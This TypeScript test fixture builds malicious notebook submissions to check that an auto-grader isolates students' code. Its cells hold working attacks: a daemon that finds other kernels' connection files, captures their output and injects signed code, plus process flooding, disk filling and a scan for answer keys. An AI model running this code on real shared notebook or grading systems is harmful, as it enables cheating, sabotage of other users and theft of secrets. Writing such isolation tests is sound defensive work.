/**
 * Attacks on the grader itself, as real exploit code in submissions of the mini lesson: each
 * attacker is the released notebook (worth 0) plus cells that try to hurt its neighbours or to
 * read the answer key; victims are full-marks submissions graded in the same batch. The exploit
 * cells print what they achieved, so a success would show in the attacker's own feedback.
 */
import { type Cell, type Notebook, cloneNotebook } from "../../cli/src/lessons/format/notebook";
import { cellById, miniRelease, solvedFrom } from "./helpers";

export interface Attack {
  name: string;
  notebook: Notebook;
  /** Id of the exploit cell. */
  cellId: string;
  /** Printed by the exploit once it has run (so a test knows it was not skipped). */
  ranMarker: string;
}

const code = (source: string, id: string): Cell => ({ cell_type: "code", id, source, metadata: {}, outputs: [], execution_count: null });

/**
 * A detached daemon that, for as long as it lives, looks for other kernels' connection files
 * (in /tmp, /run, every visible process's cwd and command line), subscribes to their IOPub
 * (capturing hidden tests) and sends them signed execute_requests that break Math, and tries
 * to signal every process it can see. It logs its catches to /tmp/daemon.log.
 */
const DAEMON_JS = String.raw`
const fs = require("fs"), path = require("path"), crypto = require("crypto");
const zmq = require(process.argv[1]);
const log = (s) => fs.appendFileSync("/tmp/daemon.log", s + "\n");
const seen = new Set();
// Its own kernel (the parent that spawned it) is not a target: its key is skipped.
let ownKey = "";
try {
  const argv = fs.readFileSync("/proc/" + process.ppid + "/cmdline", "utf8").split("\0");
  ownKey = JSON.parse(fs.readFileSync(argv[argv.indexOf("--config-path") + 1], "utf8")).key;
} catch {}
function candidates() {
  const out = [];
  const walk = (d, depth) => {
    let names = [];
    try { names = fs.readdirSync(d); } catch { return; }
    for (const n of names) {
      const p = path.join(d, n);
      let st; try { st = fs.lstatSync(p); } catch { continue; }
      if (st.isDirectory() && depth > 0 && n !== "node_modules" && !p.startsWith("/proc/self")) walk(p, depth - 1);
      else if (st.isFile() && n.endsWith(".json") && st.size < 4096) out.push(p);
    }
  };
  for (const d of ["/tmp", "/run", "/home", "/var/tmp", "/dev/shm", "/root"]) walk(d, 4);
  for (const pid of fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n))) {
    try { walk(fs.readlinkSync("/proc/" + pid + "/cwd"), 2); } catch {}
    try {
      const argv = fs.readFileSync("/proc/" + pid + "/cmdline", "utf8").split("\0");
      const i = argv.indexOf("--config-path");
      if (i >= 0) out.push(argv[i + 1]);
    } catch {}
  }
  return out;
}
function sign(key, parts) { const h = crypto.createHmac("sha256", key); for (const p of parts) h.update(p); return h.digest("hex"); }
async function attack(file) {
  let c; try { c = JSON.parse(fs.readFileSync(file, "utf8")); } catch { return; }
  if (!c.key || !c.shell_port || c.key === ownKey) return;
  const ep = (port) => c.transport === "ipc" ? "ipc://" + c.ip + "-" + port : "tcp://" + c.ip + ":" + port;
  log("FOUND " + file + " " + ep(c.shell_port));
  const sub = new zmq.Subscriber(); sub.connect(ep(c.iopub_port)); sub.subscribe();
  (async () => { for await (const frames of sub) log("CAPTURED " + frames.map(String).join(" | ").slice(0, 2000)); })().catch(() => {});
  const dealer = new zmq.Dealer(); dealer.connect(ep(c.shell_port));
  for (let i = 0; i < 50; i++) {
    const header = JSON.stringify({ msg_id: crypto.randomUUID(), session: "evil", username: "evil", date: new Date().toISOString(), msg_type: "execute_request", version: "5.3" });
    const content = JSON.stringify({ code: "Math.exp = () => 1; Math.abs = () => 0; globalThis.sigmoid = () => 0.3;", silent: true, store_history: false, user_expressions: {}, allow_stdin: false, stop_on_error: false });
    const parts = [header, "{}", "{}", content];
    await dealer.send(["<IDS|MSG>", sign(c.key, parts), ...parts]).catch(() => {});
    await new Promise((r) => setTimeout(r, 300));
  }
  log("SENT " + file);
}
(async () => {
  const until = Date.now() + 120000;
  while (Date.now() < until) {
    for (const f of candidates()) if (!seen.has(f)) { seen.add(f); attack(f); }
    for (const pid of fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n)).map(Number)) {
      if (pid === process.pid || pid === 1 || pid === process.ppid) continue;
      try { process.kill(pid, 0); log("CAN-SIGNAL " + pid); } catch {}
    }
    await new Promise((r) => setTimeout(r, 200));
  }
})();
`;

const DAEMON_CELL = `import { spawn } from "child_process";
import * as fs from "fs";
const zmqPath = require.resolve("zeromq", { paths: [fs.realpathSync("node_modules/nnlab")] });
const daemon = spawn(process.execPath, ["-e", ${JSON.stringify(DAEMON_JS)}, zmqPath], { detached: true, stdio: "ignore" });
daemon.unref();
// Keep this kernel (and so the daemon) alive while the neighbours are graded.
await new Promise((r) => setTimeout(r, 12000));
let daemonLog = "";
try { daemonLog = fs.readFileSync("/tmp/daemon.log", "utf8"); } catch {}
console.log("DAEMON RAN pid " + daemon.pid + "\\n" + daemonLog.slice(0, 20000));`;

const SLEEPERS_CELL = `import { spawn } from "child_process";
let started = 0;
for (let i = 0; i < 50; i++) {
  const c = spawn("/usr/bin/sleep", ["300"], { detached: true, stdio: "ignore" });
  c.on("spawn", () => started++);
  c.unref();
}
await new Promise((r) => setTimeout(r, 1000));
console.log("SLEEPERS RAN " + started);`;

const TMPFILE_CELL = `import * as fs from "fs";
const chunk = Buffer.alloc(1024 * 1024, 7);
let written = 0, why = "none";
try {
  const fd = fs.openSync("/tmp/hog-300mb.bin", "w");
  try { while (written < 300 * 1024 * 1024) written += fs.writeSync(fd, chunk); } finally { fs.closeSync(fd); }
} catch (e) { why = (e as NodeJS.ErrnoException).code ?? String(e); }
console.log("TMPFILE RAN wrote " + written + " stopped by " + why);`;

/** Looks for the answer key the ways a student would: the parent's command line, every visible command line and cwd, and the real path of the library (walking up to the project). */
const keyReadCell = (secretPaths: string[]) => `import * as fs from "fs";
import * as path from "path";
const found: string[] = [];
const tryRead = (p: string) => {
  try {
    const st = fs.statSync(p);
    if (st.isFile() && st.size < 1e6) found.push("KEY " + p + " " + fs.readFileSync(p, "utf8").slice(0, 3000));
  } catch {}
};
const scanDir = (d: string, depth: number) => {
  let names: string[] = [];
  try { names = fs.readdirSync(d); } catch { return; }
  for (const n of names) {
    const p = path.join(d, n);
    if (n === "node_modules" || n === ".git") continue;
    if (/^(expected\\.json|release-record\\.json|source\\.ipynb)$/.test(n)) tryRead(p);
    else if (depth > 0) { try { if (fs.statSync(p).isDirectory()) scanDir(p, depth - 1); } catch {} }
  }
};
const cmdlines: string[] = [];
for (const pid of ["self", String(process.ppid), ...fs.readdirSync("/proc").filter((n) => /^\\d+$/.test(n))]) {
  try { cmdlines.push(fs.readFileSync("/proc/" + pid + "/cmdline", "utf8").split("\\0").join(" ")); } catch {}
  try { scanDir(fs.readlinkSync("/proc/" + pid + "/cwd"), 2); } catch {}
}
for (const line of cmdlines) for (const word of line.split(" ")) if (word.startsWith("/")) {
  if (/(expected|release-record)\\.json$|\\.ipynb$/.test(word)) tryRead(word);
  scanDir(word, 2);
}
let lib = "";
try { lib = fs.realpathSync("node_modules/nnlab"); } catch {}
for (let d = lib; d && d !== "/"; d = path.dirname(d)) scanDir(d, 3);
for (const p of ${JSON.stringify(secretPaths)}) tryRead(p);
console.log("KEYREAD RAN lib=" + lib + " cmdlines=" + cmdlines.length + "\\n" + found.join("\\n"));`;

export function attackSubmissions(secretPaths: string[]): { good: Notebook; attacks: Attack[]; victims: string[] } {
  const { notebook: release, source } = miniRelease();
  const good = solvedFrom(release, source);
  const attacker = (id: string, cell: string): Notebook => {
    const nb = cloneNotebook(release);
    nb.cells.splice(cellById(nb, "setup").index + 1, 0, code(cell, id));
    return nb;
  };
  const attacks: Attack[] = [
    { name: "a_daemon", cellId: "daemon", notebook: attacker("daemon", DAEMON_CELL), ranMarker: "DAEMON RAN" },
    { name: "c_sleepers", cellId: "sleepers", notebook: attacker("sleepers", SLEEPERS_CELL), ranMarker: "SLEEPERS RAN 50" },
    { name: "e_tmpfile", cellId: "tmpfile", notebook: attacker("tmpfile", TMPFILE_CELL), ranMarker: "TMPFILE RAN" },
    { name: "f_keyread", cellId: "keyread", notebook: attacker("keyread", keyReadCell(secretPaths)), ranMarker: "KEYREAD RAN" },
  ];
  // Interleaved by name, so that with --jobs 2 every attacker runs beside a victim.
  return { good, attacks, victims: ["b_victim", "d_victim", "g_victim"] };
}
